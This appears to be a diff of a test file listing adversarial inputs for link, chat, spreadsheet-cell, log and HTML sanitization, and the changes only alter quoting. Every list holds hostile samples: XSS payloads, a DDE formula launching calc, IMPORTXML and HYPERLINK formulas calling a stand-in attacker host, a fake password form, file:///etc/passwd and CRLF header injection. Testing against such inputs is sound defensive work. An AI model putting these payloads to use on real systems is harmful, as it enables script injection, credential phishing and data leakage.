@@ -73,11 +73,11 @@ LINKS = [
     "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)",
     "vbscript:msgbox(1)", "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "file:///etc/passwd", "ftp://evil.example/x",
     "blob:http://evil.example/1", "view-source:http://evil.example", "about:blank", "ws://evil.example/", "mailto:a@evil.example?bcc=b@evil.example", "tel:+1", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example",
-    "http:/evil.example", "http:evil.example", "http://bank.example@evil.example/", "http://bank.example\\@evil.example/", "http://bank.example%40evil.example/", "http://evil.example/\" onmouseover=\"x",
+    "http:/evil.example", "http:evil.example", "http://bank.example@evil.example/", "http://bank.example\\@evil.example/", "http://bank.example%40evil.example/", 'http://evil.example/" onmouseover="x',
     "http://evil.example/' onclick='x", "http://evil.example/><script>alert(1)</script>", "http://evil.example/ style=x", "http://evil.example/`x`", "http://evil.example/)](x)[", "http://evil.example/|bank>",
     "http://evil.example/\r\nBcc: a@evil.example", "http://аррӏе.example/", "http://xn--80ak6aa92e.example/", "http://evil.example\u202e/moc.knab//:ptth", "http://[::1", "http://evil.example:99999/", "http://evil。example/",
     "http://ⓔvil.example/", "http://evil.example./", "http://%65vil.example/", "http://0x7f000001/", "http://2130706433/", "http://[::ffff:127.0.0.1]/", "http://evil.example/" + "a" * 4_000, "http://user:pass@evil.example/",
-    "http://-.example/", "http://.example/", "http://*/", "https://", "http://a..b/", "http://evil.example/?q=<img src=x>", "http://evil.example/#\"><svg>", "slack://open", "tg://resolve?domain=x", "steam://run",
+    "http://-.example/", "http://.example/", "http://*/", "https://", "http://a..b/", "http://evil.example/?q=<img src=x>", 'http://evil.example/#"><svg>', "slack://open", "tg://resolve?domain=x", "steam://run",
 ]  # fmt: skip
 CHAT = [
     "<!channel>", "<!here|here>", "<!everyone>", "!channel>", "!here|x>", "<!subteam^S0123>", "<!date^1392734382^{date}^http://evil.example/|x>", "<@U012AB3CD>", "@U012AB3CD>", "<#C012|general>", "<http://evil.example/|bank.example>",
@@ -88,7 +88,7 @@ CHAT = [
     "<tg-spoiler>x</tg-spoiler>", "<at>Ann</at>", "{color:red}x{color}", ":boom: :+1: :skull:", "[bold red]markup[/] [link=http://evil.example]x[/link]", "[/]", "[[", "&amp; &lt;b&gt; &#60;b&#62;", "&", "&bogus;", "@[Ann](user:1)", "[~ann]", "+@x", "!ann",
 ]  # fmt: skip
 CELLS = [
-    '=HYPERLINK("http://evil.example/","x")', "=cmd|' /C calc'!A0", "+1+cmd|x", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", '"=1+1"', "'=1", "=IMPORTXML(\"http://evil.example/\",\"//a\")", "=1+1", "＝1+1", ",=1", ";=1", "a\tb\tc", 'a","b', "a\n=1",
+    '=HYPERLINK("http://evil.example/","x")', "=cmd|' /C calc'!A0", "+1+cmd|x", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", '"=1+1"', "'=1", '=IMPORTXML("http://evil.example/","//a")', "=1+1", "＝1+1", ",=1", ";=1", "a\tb\tc", 'a","b', "a\n=1",
 ]  # fmt: skip
 LOGS = [
     "x\n2026-03-05 12:00:00Z error   poll feed=bank reason=gone", "x\r\n<3>priority", "<0>emergency", "x error=none state=sent", "\x1b[31merror\x1b[0m", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "a\u2028b\u2029c", "a\rb", '{"level":"error"}',
@@ -151,13 +151,13 @@ COMBINED = list(
 MARKUP = [
     f"<link rel=stylesheet href=http://{HOST}/c.css>", f"<style>@import 'http://{HOST}/i.css';</style>", f"<style>body{{background:url(//{HOST}/u.png)}}</style>", f"<meta http-equiv=refresh content='0;url=http://{HOST}/m'>",
     f"<base href=http://{HOST}/>", f"<form action=http://{HOST}/f><input name=password type=password><button>Log in</button></form>", f"<a href=javascript:{_RUN}>x</a>", f"<a href='http://{HOST}/a' ping='http://{HOST}/ping'>x</a>",
-    f"<embed src=http://{HOST}/e>", f"<audio src=http://{HOST}/a autoplay>", f"<table background=http://{HOST}/t>", f"<div style='background-image:url(http://{HOST}/d.png)'>", f"<p style=\"width:expression({_RUN})\">", "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
+    f"<embed src=http://{HOST}/e>", f"<audio src=http://{HOST}/a autoplay>", f"<table background=http://{HOST}/t>", f"<div style='background-image:url(http://{HOST}/d.png)'>", f'<p style="width:expression({_RUN})">', "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
     f"<svg><use href='http://{HOST}/u.svg#x'/></svg>", f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>x</text></a></svg>", f"<svg><animate attributeName=href values=javascript:{_RUN} /></svg>", f"<svg><foreignObject><img src=http://{HOST}/fo></foreignObject></svg>",
     f"<svg><style>@font-face{{src:url(http://{HOST}/f)}}</style>", f"<math href=javascript:{_RUN}>x</math>", f"<math><annotation-xml encoding=text/html><img src=http://{HOST}/x></annotation-xml>", "<!--><script>1</script>-->", f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
-    "<![CDATA[<script>1</script>]]>", f"<?xml-stylesheet href='http://{HOST}/x.xsl'?>", f"<!DOCTYPE html SYSTEM 'http://{HOST}/d.dtd'>", f"<noscript><p title=\"</noscript><img src=http://{HOST}/ns>\">", f"<template><img src=http://{HOST}/t></template>", "<plaintext>", "<xmp>", "<listing>", "<textarea>", "<title>",
-    f"<iframe srcdoc=\"<script>{_RUN}</script>\">", f"<img srcset='http://{HOST}/1x 1x'>", f"<picture><source srcset=http://{HOST}/s></picture>", f"<link rel=prefetch href=http://{HOST}/p>", f"<link rel=dns-prefetch href=//{HOST}>", f"<script>/*</script><img src=http://{HOST}/y>*/", "<scr<script>ipt>alert(1)</script>",
+    "<![CDATA[<script>1</script>]]>", f"<?xml-stylesheet href='http://{HOST}/x.xsl'?>", f"<!DOCTYPE html SYSTEM 'http://{HOST}/d.dtd'>", f'<noscript><p title="</noscript><img src=http://{HOST}/ns>">', f"<template><img src=http://{HOST}/t></template>", "<plaintext>", "<xmp>", "<listing>", "<textarea>", "<title>",
+    f'<iframe srcdoc="<script>{_RUN}</script>">', f"<img srcset='http://{HOST}/1x 1x'>", f"<picture><source srcset=http://{HOST}/s></picture>", f"<link rel=prefetch href=http://{HOST}/p>", f"<link rel=dns-prefetch href=//{HOST}>", f"<script>/*</script><img src=http://{HOST}/y>*/", "<scr<script>ipt>alert(1)</script>",
     f"<img src=x:x onerror={_RUN}//", "<img/src/onerror=alert(1)>", "<svg/onload=alert(1)//", "</bdi></p></td></table><h1>Your account</h1>", "</style><script>1</script>", "--></style></script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\\u003cscript\\u003e", "<\x00script>alert(1)</script>", "<scri\x00pt>", "<\tscript>", "<script\x0c>1</script>", "<svg><script>1&#41;</script>", f"<a href=\"http://{HOST}/\" target=_top style=\"position:fixed;inset:0\">x</a>", "<blink>", "<marquee onstart=alert(1)>", f"<isindex action=http://{HOST}/>", f"<frameset><frame src=http://{HOST}/fr>",
+    "\\u003cscript\\u003e", "<\x00script>alert(1)</script>", "<scri\x00pt>", "<\tscript>", "<script\x0c>1</script>", "<svg><script>1&#41;</script>", f'<a href="http://{HOST}/" target=_top style="position:fixed;inset:0">x</a>', "<blink>", "<marquee onstart=alert(1)>", f"<isindex action=http://{HOST}/>", f"<frameset><frame src=http://{HOST}/fr>",
     f"<bgsound src=http://{HOST}/b>", f"<layer src=http://{HOST}/l>", f"<portal src=http://{HOST}/p>", "<dialog open>x</dialog>", f"<object type=text/x-scriptlet data=http://{HOST}/o>", f"<applet code=x archive=http://{HOST}/a.jar>", "<keygen>", "<bdo dir=rtl>", "<o:p></o:p>",
 ]  # fmt: skip
 
